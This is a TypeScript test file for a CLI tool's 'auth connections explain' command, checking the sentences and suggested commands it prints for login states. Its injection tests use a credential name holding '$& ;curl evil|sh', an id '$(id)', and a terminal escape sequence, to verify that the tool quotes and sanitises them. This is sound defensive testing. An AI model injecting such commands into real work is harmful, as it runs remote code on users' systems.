import { expect, test } from "vitest";
import { explanation } from "../../../../src/commands/auth/connections/lib/explanation.ts";
import { canReauthReasons, canReauthReasonTexts } from "../../../../src/contract/can-reauth-reasons.ts";
import { loginErrorTexts } from "../../../../src/contract/login-error-texts.ts";
import type { ManagedAuth } from "../../../../src/generated/types.ts";
import type { LoginFlowErrorKind } from "../../../../src/service/login/flow/flow-error.ts";
import { runHere } from "../../../support/cli/run-cli.ts";
import { apiServer } from "../../../support/servers/api-server.ts";
import { connection, connectionId, connectionPath } from "../../../support/servers/connection-server.ts";

const now = Date.parse("2026-03-01T10:00:00Z");
const words = ["auth", "connections", "explain", connectionId];
const login = `browserctl auth connections login ${connectionId}`;

const explained = (more: Record<string, unknown>) => explanation(connection(more) as unknown as ManagedAuth, now);

test("a connection that never logged in: why, and the command for it", async () => {
  const server = await apiServer({ request: `GET ${connectionPath}`, answer: { json: connection() } });
  const { stdout } = await runHere([...words, "--no-color"], { env: server.env, tty: { stdout: true }, width: 80 });
  expect(stdout).toBe(
    `shop.example.com, profile customer: NEEDS_AUTH

The profile is not logged in: no login has run yet.

Values may be entered at shop.example.com, login.example.com and subdomains;
always also at common identity providers.

An expired session cannot be renewed without a person
(no_prior_successful_login). The connection has never completed a login.

Next:
  Log in: ${login}
`,
  );
});

test.each(canReauthReasons)("%s: its meaning, and an advice with the real id", (reason) => {
  const { canReauth, meaning } = canReauthReasonTexts[reason];
  const more = { can_reauth: canReauth, can_reauth_reason: reason, credential: { name: "shop" }, auto_reauth: true };
  const { renewal, next } = explained({ ...more, status: "AUTHENTICATED", flow_status: "SUCCESS" });
  expect(renewal.join(" ")).toContain(
    `${canReauth ? "can" : "cannot"} be renewed without a person (${reason}). ${meaning}`,
  );
  expect(next.join()).not.toMatch(/<(id|name)>/);
  expect(next).not.toEqual([]);
});

test("an unknown reason, status and flow are shown as they are, without a guess", () => {
  const { state, renewal, next } = explained({
    status: "PAUSED",
    flow_status: "WAITING_FOR_MOON",
    can_reauth: true,
    can_reauth_reason: "moon_phase",
    auto_reauth: true,
  });
  expect(state).toEqual([
    "The status is PAUSED, which this version does not know.",
    "The last login is WAITING_FOR_MOON, which this version does not know.",
  ]);
  expect(renewal.slice(0, 2)).toEqual([
    "An expired session can be renewed without a person (moon_phase).",
    "This version does not know that reason.",
  ]);
  expect(next).toEqual(["Nothing to do."]);
});

test.each<[Record<string, unknown>, string]>([
  [
    { flow_status: "FAILED", error_code: "page_unreachable", error_message: "the page did not answer." },
    "The last login failed: the page did not answer (page_unreachable).",
  ],
  [{ flow_status: "EXPIRED" }, "The last login expired before it was complete."],
  [{ flow_status: "CANCELED", flow_type: "REAUTH" }, "The last automatic login was canceled."],
  [
    {
      flow_status: "IN_PROGRESS",
      flow_step: "AWAITING_INPUT",
      fields: [{ id: "f1", ref: "r", type: "password", reason: "missing", label: "Password" }],
      flow_expires_at: "2026-03-01T10:05:00Z",
    },
    "A login is running and waits for Password; it expires in 5m.",
  ],
  [
    { flow_status: "IN_PROGRESS", flow_step: "AWAITING_EXTERNAL_ACTION", external_action_message: "Tap your phone" },
    'A login is running and waits for a step outside of the login page: "Tap your phone".',
  ],
  [{ flow_status: "FAILED", website_error: "Wrong password" }, 'The website shows: "Wrong password".'],
])("the state of the last login: %j", (more, sentence) => {
  expect(explained(more).state).toContain(sentence);
});

test("an expired session: when it was noticed", () => {
  const more = { flow_status: "SUCCESS", last_auth_check_at: "2026-03-01T09:57:00Z" };
  expect(explained(more).state).toEqual([
    "The profile is not logged in: the session of the last login had expired at the last check, 3m ago.",
  ]);
});

test("what is switched off is named, with the command that switches it on", () => {
  const more = {
    status: "AUTHENTICATED",
    flow_status: "SUCCESS",
    can_reauth: true,
    can_reauth_reason: "viable_plans_found",
  };
  const off = explained({ ...more, auto_reauth: false, health_checks: false });
  expect(off.renewal).toContain("Health checks are off: nothing notices an expired session.");
  expect(off.next).toEqual([
    `Renew expired sessions: browserctl auth connections update ${connectionId} --auto-reauth --health-checks`,
  ]);
  expect(explained({ ...more, auto_reauth: true }).next).toEqual(["Nothing to do."]);
});

test("-o json has the sentences beside the values, and control characters reach no terminal", async () => {
  const record = connection({ flow_status: "FAILED", error_message: "a\u001b]52;c;eA==\u0007b" });
  const server = await apiServer({ request: `GET ${connectionPath}`, answer: { json: record }, times: 2 });
  const value = JSON.parse((await runHere([...words, "-o", "json"], { env: server.env })).stdout);
  expect(value).toMatchObject({
    id: connectionId,
    status: "NEEDS_AUTH",
    can_reauth_reason: "no_prior_successful_login",
    next: [`Log in: ${login}`],
  });
  expect(value.explanation[1]).toBe("The last login failed: a\u001b]52;c;eA==\u0007b.");
  expect((await runHere(words, { env: server.env })).stdout).not.toContain("\u001b");
});

test("a login that waits: its choices, and the commands that answer it", () => {
  const choices = [
    { id: "m1", label: "Text message", type: "mfa_method", mfa_type: "sms", masked_destination: "•• 42" },
    { id: "m2", label: "Not now", type: "other" },
  ];
  const { state, next } = explained({
    flow_status: "IN_PROGRESS",
    flow_step: "AWAITING_EXTERNAL_ACTION",
    interaction_id: "i1",
    fields: [
      { id: "p:1", ref: "p", type: "password", reason: "missing", label: "Password" },
      { id: "c:1", ref: "c", type: "code", reason: "missing", label: "Code" },
      { id: "n:1", ref: "n", type: "text", reason: "missing", label: "Note", required: false },
    ],
    choices,
    last_auth_check_at: "2026-03-01T09:57:00Z",
  });
  expect(state.slice(2)).toEqual([
    "The choices are: Text message (•• 42); Not now.",
    "The last health check ran 3m ago.",
  ]);
  const submit = `Answer it: browserctl auth connections submit ${connectionId}`;
  expect(next.slice(0, 4)).toEqual([
    `${submit} --field password=- --field code=@FILE`,
    `${submit} --choice sms`,
    `${submit} --choice m2`,
    submit,
  ]);
});

test("a page with many choices: the first ones, and one command", () => {
  const choices = Array.from({ length: 12 }, (_, at) => ({ id: `c${at}`, label: `Way ${at}`, type: "other" }));
  const running = { flow_status: "IN_PROGRESS", flow_step: "AWAITING_INPUT", interaction_id: "i1" };
  const { state, next } = explained({ ...running, fields: [], choices });
  expect(state.join(" ")).toContain("Way 9; and 2 more.");
  expect(next.filter((step) => step.startsWith("Answer"))).toEqual([
    `Answer it: browserctl auth connections submit ${connectionId} --choice NAME`,
  ]);
});

test.each(Object.entries(loginErrorTexts))(
  "a login that failed with %s: its meaning, and a step with the real id",
  (code, text) => {
    const { state, next } = explained({ flow_status: "FAILED", error_code: code, credential: { name: "shop" } });
    expect(state).toContain(text.meaning);
    expect(next).toContain(
      text.advice.includes("connections login")
        ? `Log in: ${login}`
        : text.advice.replace("<id>", connectionId).replace("<name>", "shop"),
    );
  },
);

test("names and ids of a service are words of the suggested commands", () => {
  const failed = { id: "$(id)", flow_status: "FAILED", credential: { name: "$& ;curl evil|sh" } };
  expect(explained({ ...failed, error_code: "credentials_invalid" }).next).toContain(
    "Correct the stored value: browserctl credentials update '$& ;curl evil|sh' --ask password",
  );
  expect(explained({ ...failed, error_code: "no_login_form" }).next).toContain(
    "Name the login page: browserctl auth connections update '$(id)' --login-url URL",
  );
});

test("every code of the service's own failures has a text", () => {
  const kinds: Record<LoginFlowErrorKind, true> = {
    browser_session_terminated: true,
    credentials_invalid: true,
    domain_not_allowed: true,
    input_required: true,
    login_failed: true,
    login_page_unreachable: true,
    no_login_form: true,
    unsupported_auth_method: true,
  };
  expect(Object.keys(loginErrorTexts)).toEqual(expect.arrayContaining(Object.keys(kinds)));
});

test("a profile that is logged in and was never checked", () => {
  const { state } = explained({ status: "AUTHENTICATED", flow_status: "SUCCESS" });
  expect(state).toEqual(["The profile is logged in.", "No health check has run yet."]);
});
